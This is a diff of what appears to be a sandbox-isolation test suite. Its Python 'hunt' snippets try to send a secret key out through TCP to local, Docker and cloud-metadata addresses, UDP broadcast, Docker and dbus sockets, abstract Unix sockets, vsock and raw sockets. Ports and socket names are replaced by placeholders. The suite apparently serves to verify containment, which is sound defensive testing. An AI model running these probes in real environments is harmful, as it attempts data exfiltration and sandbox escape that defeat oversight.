@@ -149,14 +149,14 @@ import socket
 def hunt(key):
     addresses = ["127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1", "169.254.169.254", "192.0.2.1", "1.1.1.1"]
     for address in addresses:
-        for port in (47391, 22, 53, 80, 8888):
+        for port in (@tcp@, 22, 53, 80, 8888):
             try:
                 with socket.create_connection((address, port), 0.1) as end:
                     end.sendall(repr(key).encode())
                     keep(end.recv(4096))
             except OSError:
                 pass
-    for kind, address in ((socket.SOCK_DGRAM, ("1.1.1.1", 53)), (socket.SOCK_DGRAM, ("255.255.255.255", 47391))):
+    for kind, address in ((socket.SOCK_DGRAM, ("1.1.1.1", 53)), (socket.SOCK_DGRAM, ("127.0.0.1", @udp@)), (socket.SOCK_DGRAM, ("255.255.255.255", @udp@))):
         try:
             socket.socket(socket.AF_INET, kind).sendto(b"leak", address)
         except OSError:
@@ -174,7 +174,7 @@ def hunt(key):
 import glob, socket
 
 def hunt(key):
-    names = ["\\0grader-" + "redteam", *glob.glob("/run/**/*.sock", recursive=True), "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
+    names = ["\\0@abstract@", "@path@", "@commons@/../commons/" + os.path.basename("@path@"), *glob.glob("/run/**/*.sock", recursive=True), "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
     with open("/proc/net/unix") as listed:
         names += [line.split()[-1].replace("@", "\\0") for line in listed if "@" in line]
     for name in names:
@@ -190,7 +190,7 @@ def hunt(key):
         try:
             with socket.socket(socket.AF_VSOCK) as end:
                 end.settimeout(0.1)
-                end.connect((context, 47391))
+                end.connect((context, @tcp@))
         except OSError:
             pass
     for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
@@ -198,6 +198,24 @@ def hunt(key):
             socket.socket(family, kind, 0).close()
         except OSError:
             pass
+""",
+    ),
+    hunts(
+        "send datagrams to sockets of the machine",
+        "beyond: sendto, sendmsg without a connection",
+        """
+import socket
+
+def hunt(key):
+    for name in ("\\0@abstract datagrams@", "@path datagrams@", "\\0@abstract@", "@path@", "/dev/log", "/run/systemd/notify"):
+        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
+            with socket.socket(socket.AF_UNIX, kind) as end:
+                for send in (lambda: end.sendto(b"leak", name), lambda: end.sendmsg([b"leak"], [], 0, name), lambda: end.connect(name),
+                             lambda: socket.send_fds(end, [b"leak"], [1], 0, name)):
+                    try:
+                        send()
+                    except OSError:
+                        pass
 """,
     ),
     hunts(
